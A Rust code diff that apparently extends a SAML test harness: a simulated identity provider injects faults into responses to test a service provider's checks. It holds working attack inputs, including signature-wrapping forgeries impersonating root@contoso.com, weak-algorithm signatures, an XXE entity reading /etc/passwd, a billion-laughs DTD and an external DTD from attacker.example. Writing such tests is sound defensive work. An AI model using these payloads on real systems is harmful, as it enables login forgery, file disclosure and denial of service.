@@ -174,8 +174,96 @@ pub(super) fn apply_fault(
                 });
             }
         }
-        // Faults made on the XML text (xml_edit).
-        Fault::NameIdTrailingCr
+        Fault::XswResponseWrapped
+        | Fault::ResponseSignatureInAssertion
+        | Fault::ReferenceUriEmpty => {
+            *signing = Signing::Response;
+        }
+        Fault::DestinationExtended => map_url(&mut r.destination, |u| format!("{u}x")),
+        Fault::DestinationTruncated => map_url(&mut r.destination, |u| {
+            let mut u = u.to_owned();
+            u.pop();
+            u
+        }),
+        Fault::DestinationTrailingSlash => map_url(&mut r.destination, |u| format!("{u}/")),
+        Fault::DestinationCase => map_url(&mut r.destination, upper_path),
+        Fault::RecipientExtended | Fault::RecipientTrailingSlash | Fault::RecipientCase => {
+            if let Some(a) = r.assertion.as_mut() {
+                map_url(&mut a.confirmation.recipient, |u| match fault {
+                    Fault::RecipientExtended => format!("{u}x"),
+                    Fault::RecipientTrailingSlash => format!("{u}/"),
+                    _ => upper_path(u),
+                });
+            }
+        }
+        Fault::AudienceExtended | Fault::AudienceTrailingSlash | Fault::AudienceCase => {
+            if let Some(a) = r.assertion.as_mut() {
+                for audience in &mut a.conditions.audiences {
+                    *audience = match fault {
+                        Fault::AudienceExtended => format!("{audience}x"),
+                        Fault::AudienceTrailingSlash => format!("{audience}/"),
+                        _ => upper_path(audience),
+                    };
+                }
+            }
+        }
+        Fault::AudienceListWithUs => {
+            if let Some(a) = r.assertion.as_mut() {
+                a.conditions
+                    .audiences
+                    .insert(0, "https://sp.elsewhere.example/".into());
+            }
+        }
+        Fault::AssertionIssuerWithoutSlash | Fault::AssertionIssuerCase => {
+            if let Some(a) = r.assertion.as_mut() {
+                let v = &a.issuer.value;
+                a.issuer.value = if fault == Fault::AssertionIssuerCase {
+                    upper_path(v)
+                } else {
+                    v.trim_end_matches('/').to_owned()
+                };
+            }
+        }
+        Fault::StatusRequesterWithAssertion => {
+            r.status = Status {
+                code: s::STATUS_REQUESTER.into(),
+                sub_code: Some(s::STATUS_AUTHN_FAILED.into()),
+                message: Some("The user could not be authenticated.".into()),
+            };
+        }
+        Fault::Unsolicited => {
+            r.in_response_to = None;
+            if let Some(a) = r.assertion.as_mut() {
+                a.confirmation.in_response_to = None;
+            }
+        }
+        // Faults made on the XML text (xml_edit), or, for the replays, by the sender.
+        Fault::XswEvilAssertionFirst
+        | Fault::XswEvilAssertionLast
+        | Fault::XswSignedAssertionInsideEvil
+        | Fault::XswSignedAssertionInSignatureObject
+        | Fault::XswSignedAssertionInAdvice
+        | Fault::ResponseIdReusedByAssertion
+        | Fault::TransformXpath
+        | Fault::DigestSha1
+        | Fault::SignatureRsaSha1
+        | Fault::SignatureRsaMd5
+        | Fault::SignatureHmacSha1
+        | Fault::SignatureValueEmpty
+        | Fault::SignedContentTampered
+        | Fault::ProcessingInstructionInNameId
+        | Fault::DtdInternalSubset
+        | Fault::DtdExternalEntity
+        | Fault::DtdEntityExpansion
+        | Fault::DtdExternalSubset
+        | Fault::AudienceSecondRestrictionOther
+        | Fault::ConfirmationNotBefore
+        | Fault::HolderOfKeyConfirmation
+        | Fault::EncryptedAssertionInstead
+        | Fault::AssertionVersionOld
+        | Fault::ReplayPreviousResponse
+        | Fault::AssertionRewrapped
+        | Fault::NameIdTrailingCr
         | Fault::NameIdCommentSuffix
         | Fault::TwoNameIds
         | Fault::NameIdAndEncryptedId
@@ -198,6 +286,25 @@ pub(super) fn apply_fault(
         | Fault::LogoutStatusError
         | Fault::LogoutDestinationWrong
         | Fault::LogoutRequestEncryptedId => {}
+    }
+}
+
+fn map_url(url: &mut Option<String>, f: impl Fn(&str) -> String) {
+    if let Some(u) = url.as_mut() {
+        *u = f(u);
+    }
+}
+
+/// The URL with everything after its authority in upper case (scheme and host stay as they
+/// are: they are case-insensitive, a path is not).
+fn upper_path(url: &str) -> String {
+    let after_scheme = url.find("://").map_or(0, |i| i + 3);
+    match url[after_scheme..].find('/') {
+        Some(i) => {
+            let at = after_scheme + i;
+            format!("{}{}", &url[..at], url[at..].to_uppercase())
+        }
+        None => url.to_owned(),
     }
 }
 
@@ -264,6 +371,71 @@ fn with_name_id(
     }))
 }
 
+/// `fresh` with its assertion replaced, byte for byte, by the one `previous` carried.
+pub(super) fn rewrap(previous: &str, fresh: &str) -> Option<String> {
+    let (pa, pb, _) = element_span(previous, "Assertion")?;
+    let (a, b, _) = element_span(fresh, "Assertion")?;
+    Some(format!(
+        "{}{}{}",
+        &fresh[..a],
+        &previous[pa..pb],
+        &fresh[b..]
+    ))
+}
+
+/// A text edit before signing; `None` from `f` (the shape it expects is not there) leaves
+/// the message as it was.
+fn before_signing(f: impl Fn(String) -> Option<String> + Send + Sync + 'static) -> Edit {
+    Edit::BeforeSigning(Box::new(move |xml: String| f(xml.clone()).unwrap_or(xml)))
+}
+
+fn after_signing(f: impl Fn(String) -> Option<String> + Send + Sync + 'static) -> Edit {
+    Edit::AfterSigning(Box::new(move |xml: String| f(xml.clone()).unwrap_or(xml)))
+}
+
+/// The template's algorithm URIs replaced before signing: the IdP signs with the weak ones.
+fn algorithms(pairs: &'static [(&'static str, &'static str)]) -> Edit {
+    before_signing(move |mut xml| {
+        for (from, to) in pairs {
+            xml = xml.replace(
+                &format!("Algorithm=\"{from}\""),
+                &format!("Algorithm=\"{to}\""),
+            );
+        }
+        Some(xml)
+    })
+}
+
+fn doctype(dtd: &'static str) -> Edit {
+    Edit::AfterSigning(Box::new(move |xml: String| format!("{dtd}{xml}")))
+}
+
+/// The value of the first ` ID="..."` attribute in `xml` (the outermost element's).
+fn id_value(xml: &str) -> Option<String> {
+    let at = xml.find(" ID=\"")? + " ID=\"".len();
+    Some(xml[at..at + xml[at..].find('"')?].to_owned())
+}
+
+/// `xml` with its outermost element's ID changed to `id`.
+fn with_new_id(xml: &str, id: &str) -> Option<String> {
+    let old = id_value(xml)?;
+    Some(xml.replacen(&format!(" ID=\"{old}\""), &format!(" ID=\"{id}\""), 1))
+}
+
+/// The first NameID's value changed to another user of the tenant.
+fn name_id_to_root(xml: &str) -> Option<String> {
+    let (_, b, c, _, _) = name_id_span(xml)?;
+    Some(format!("{}root@contoso.com{}", &xml[..b], &xml[c..]))
+}
+
+/// The attacker's assertion: a copy of the signed one with its signature removed, another ID,
+/// and the NameID of another user.
+fn evil_copy(assertion: &str) -> Option<String> {
+    let (a, b, _) = element_span(assertion, "Signature")?;
+    let unsigned = format!("{}{}", &assertion[..a], &assertion[b..]);
+    name_id_to_root(&with_new_id(&unsigned, "_evil")?)
+}
+
 fn declaration(encoding: &'static str) -> Edit {
     Edit::AfterSigning(Box::new(move |xml: String| {
         format!("<?xml version=\"1.0\" encoding=\"{encoding}\"?>{xml}")
@@ -271,7 +443,12 @@ fn declaration(encoding: &'static str) -> Edit {
 }
 
 /// The text edit a fault needs, if any (`idp` is the Issuer, `sp` the app's Identifier).
-pub(super) fn xml_edit(fault: Fault, idp: &str, sp: &str) -> Edit {
+pub(super) fn xml_edit(
+    fault: Fault,
+    idp: &str,
+    sp: &str,
+    now: chrono::DateTime<chrono::Utc>,
+) -> Edit {
     let attribute = |extra: String| {
         with_name_id(move |xml, (a, _, _, _), prefix| {
             let name_end = a + 1 + prefix.len() + "NameID".len();
@@ -363,6 +540,202 @@ pub(super) fn xml_edit(fault: Fault, idp: &str, sp: &str) -> Edit {
                 &without[st..]
             )
         })),
+        Fault::XswEvilAssertionFirst | Fault::XswEvilAssertionLast => after_signing(move |xml| {
+            let (a, b, _) = element_span(&xml, "Assertion")?;
+            let evil = evil_copy(&xml[a..b])?;
+            Some(if fault == Fault::XswEvilAssertionFirst {
+                format!("{}{evil}{}", &xml[..a], &xml[a..])
+            } else {
+                format!("{}{evil}{}", &xml[..b], &xml[b..])
+            })
+        }),
+        Fault::XswSignedAssertionInsideEvil => after_signing(|xml| {
+            let (a, b, p) = element_span(&xml, "Assertion")?;
+            let evil = evil_copy(&xml[a..b])?;
+            let close = evil.rfind(&format!("</{p}Assertion>"))?;
+            Some(format!(
+                "{}{}{}{}{}",
+                &xml[..a],
+                &evil[..close],
+                &xml[a..b],
+                &evil[close..],
+                &xml[b..]
+            ))
+        }),
+        Fault::XswSignedAssertionInAdvice => after_signing(|xml| {
+            let (a, b, p) = element_span(&xml, "Assertion")?;
+            let evil = evil_copy(&xml[a..b])?;
+            let close = format!("</{p}Conditions>");
+            let at = evil.find(&close)? + close.len();
+            Some(format!(
+                "{}{}<{p}Advice>{}</{p}Advice>{}{}",
+                &xml[..a],
+                &evil[..at],
+                &xml[a..b],
+                &evil[at..],
+                &xml[b..]
+            ))
+        }),
+        // XSW8: the evil assertion keeps the signature; the signed assertion, its signature
+        // taken out, waits in the signature's Object, where `#ID` still finds it.
+        Fault::XswSignedAssertionInSignatureObject => after_signing(|xml| {
+            let (a, b, _) = element_span(&xml, "Assertion")?;
+            let signed = &xml[a..b];
+            let (sa, sb, sp) = element_span(signed, "Signature")?;
+            let original = format!("{}{}", &signed[..sa], &signed[sb..]);
+            let evil = name_id_to_root(&with_new_id(signed, "_evil")?)?;
+            let (ea, eb, _) = element_span(&evil, "Signature")?;
+            let close = format!("</{sp}Signature>");
+            let sig = &evil[ea..eb - close.len()];
+            Some(format!(
+                "{}{}{sig}<{sp}Object>{original}</{sp}Object>{close}{}{}",
+                &xml[..a],
+                &evil[..ea],
+                &evil[eb..],
+                &xml[b..]
+            ))
+        }),
+        // XSW1: the Response is what is signed; it moves, signature removed, into the Object of
+        // its own signature, under an envelope whose assertion names root@contoso.com.
+        Fault::XswResponseWrapped => after_signing(|xml| {
+            let (sa, sb, sp) = element_span(&xml, "Signature")?;
+            let original = format!("{}{}", &xml[..sa], &xml[sb..]);
+            let evil = with_new_id(&name_id_to_root(&xml)?, "_evil")?;
+            let (_, eb, _) = element_span(&evil, "Signature")?;
+            let close = eb - format!("</{sp}Signature>").len();
+            Some(format!(
+                "{}<{sp}Object>{original}</{sp}Object>{}",
+                &evil[..close],
+                &evil[close..]
+            ))
+        }),
+        Fault::ResponseIdReusedByAssertion => after_signing(|xml| {
+            let (a, _, _) = element_span(&xml, "Assertion")?;
+            let assertion_id = id_value(&xml[a..])?;
+            let response_id = id_value(&xml)?;
+            Some(xml.replacen(
+                &format!(" ID=\"{response_id}\""),
+                &format!(" ID=\"{assertion_id}\""),
+                1,
+            ))
+        }),
+        Fault::ResponseSignatureInAssertion => after_signing(|xml| {
+            let (sa, sb, _) = element_span(&xml, "Signature")?;
+            let signature = xml[sa..sb].to_owned();
+            let without = format!("{}{}", &xml[..sa], &xml[sb..]);
+            let (a, _, p) = element_span(&without, "Assertion")?;
+            let close = format!("</{p}Issuer>");
+            let at = a + without[a..].find(&close)? + close.len();
+            Some(format!("{}{signature}{}", &without[..at], &without[at..]))
+        }),
+        Fault::ReferenceUriEmpty => before_signing(|xml| {
+            let at = xml.find("Reference URI=\"#")? + "Reference URI=\"".len();
+            let end = at + xml[at..].find('"')?;
+            Some(format!("{}{}", &xml[..at], &xml[end..]))
+        }),
+        Fault::TransformXpath => before_signing(|xml| {
+            let enveloped = format!("Transform Algorithm=\"{}\"/>", s::ALG_ENVELOPED);
+            let at = xml.find(&enveloped)?;
+            let p = &xml[xml[..at].rfind('<')? + 1..at];
+            let xpath = format!(
+                "Transform Algorithm=\"{}\"><{p}XPath xmlns:dsig=\"{}\">\
+                 not(ancestor-or-self::dsig:Signature)</{p}XPath></{p}Transform>",
+                s::ALG_XPATH,
+                s::NS_DSIG
+            );
+            Some(xml.replacen(&enveloped, &xpath, 1))
+        }),
+        Fault::DigestSha1 => algorithms(&[(s::ALG_SHA256, s::ALG_SHA1)]),
+        Fault::SignatureRsaSha1 => algorithms(&[
+            (s::ALG_RSA_SHA256, s::ALG_RSA_SHA1),
+            (s::ALG_SHA256, s::ALG_SHA1),
+        ]),
+        Fault::SignatureRsaMd5 => algorithms(&[
+            (s::ALG_RSA_SHA256, s::ALG_RSA_MD5),
+            (s::ALG_SHA256, s::ALG_MD5),
+        ]),
+        Fault::SignatureHmacSha1 => algorithms(&[(s::ALG_RSA_SHA256, s::ALG_HMAC_SHA1)]),
+        Fault::SignatureValueEmpty => after_signing(|xml| {
+            let (a, b, p) = element_span(&xml, "SignatureValue")?;
+            Some(format!(
+                "{}<{p}SignatureValue></{p}SignatureValue>{}",
+                &xml[..a],
+                &xml[b..]
+            ))
+        }),
+        Fault::SignedContentTampered => after_signing(|xml| name_id_to_root(&xml)),
+        Fault::ProcessingInstructionInNameId => {
+            with_name_id(|xml, (_, _, c, _), _| format!("{}<?evil x?>{}", &xml[..c], &xml[c..]))
+        }
+        Fault::DtdInternalSubset => doctype("<!DOCTYPE Response [<!ELEMENT Response ANY>]>"),
+        Fault::DtdExternalEntity => {
+            doctype("<!DOCTYPE Response [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>")
+        }
+        Fault::DtdEntityExpansion => Edit::AfterSigning(Box::new(|xml: String| {
+            let mut dtd = String::from("<!DOCTYPE Response [<!ENTITY lol0 \"lol\">");
+            for i in 1..10 {
+                let refs = format!("&lol{};", i - 1).repeat(10);
+                dtd.push_str(&format!("<!ENTITY lol{i} \"{refs}\">"));
+            }
+            dtd.push_str("]>");
+            // Referenced in the Response's own (unsigned) Status message, where a parser that
+            // expands entities meets it before any signature is checked.
+            let xml = match element_span(&xml, "StatusCode") {
+                Some((_, b, p)) => format!(
+                    "{}<{p}StatusMessage>&lol9;</{p}StatusMessage>{}",
+                    &xml[..b],
+                    &xml[b..]
+                ),
+                None => xml,
+            };
+            format!("{dtd}{xml}")
+        })),
+        Fault::DtdExternalSubset => {
+            doctype("<!DOCTYPE Response SYSTEM \"http://attacker.example/saml.dtd\">")
+        }
+        Fault::AudienceSecondRestrictionOther => before_signing(|xml| {
+            let (_, b, p) = element_span(&xml, "AudienceRestriction")?;
+            Some(format!(
+                "{}<{p}AudienceRestriction><{p}Audience>https://sp.elsewhere.example/</{p}Audience></{p}AudienceRestriction>{}",
+                &xml[..b],
+                &xml[b..]
+            ))
+        }),
+        Fault::ConfirmationNotBefore => before_signing(move |xml| {
+            let at = xml.find("SubjectConfirmationData ")? + "SubjectConfirmationData ".len();
+            let not_before = s::instant(now - Duration::minutes(5));
+            Some(format!(
+                "{}NotBefore=\"{not_before}\" {}",
+                &xml[..at],
+                &xml[at..]
+            ))
+        }),
+        Fault::HolderOfKeyConfirmation => before_signing(|xml| {
+            Some(xml.replacen(
+                s::CM_BEARER,
+                "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key",
+                1,
+            ))
+        }),
+        Fault::EncryptedAssertionInstead => after_signing(|xml| {
+            let (a, b, _) = element_span(&xml, "Assertion")?;
+            Some(format!(
+                "{}<saml:EncryptedAssertion xmlns:saml=\"{}\"><xenc:EncryptedData \
+                 xmlns:xenc=\"http://www.w3.org/2001/04/xmlenc#\"/></saml:EncryptedAssertion>{}",
+                &xml[..a],
+                s::NS_ASSERTION,
+                &xml[b..]
+            ))
+        }),
+        Fault::AssertionVersionOld => before_signing(|xml| {
+            let (a, _, _) = element_span(&xml, "Assertion")?;
+            let at = a + xml[a..].find(" Version=\"2.0\"")?;
+            Some(format!(
+                "{} Version=\"1.1\"{}",
+                &xml[..at],
+                &xml[at + " Version=\"2.0\"".len()..]
+            ))
+        }),
         Fault::EncodingUtf7 => declaration("UTF-7"),
         Fault::EncodingUtf16 => declaration("UTF-16"),
         Fault::EncodingLatin1 => declaration("ISO-8859-1"),
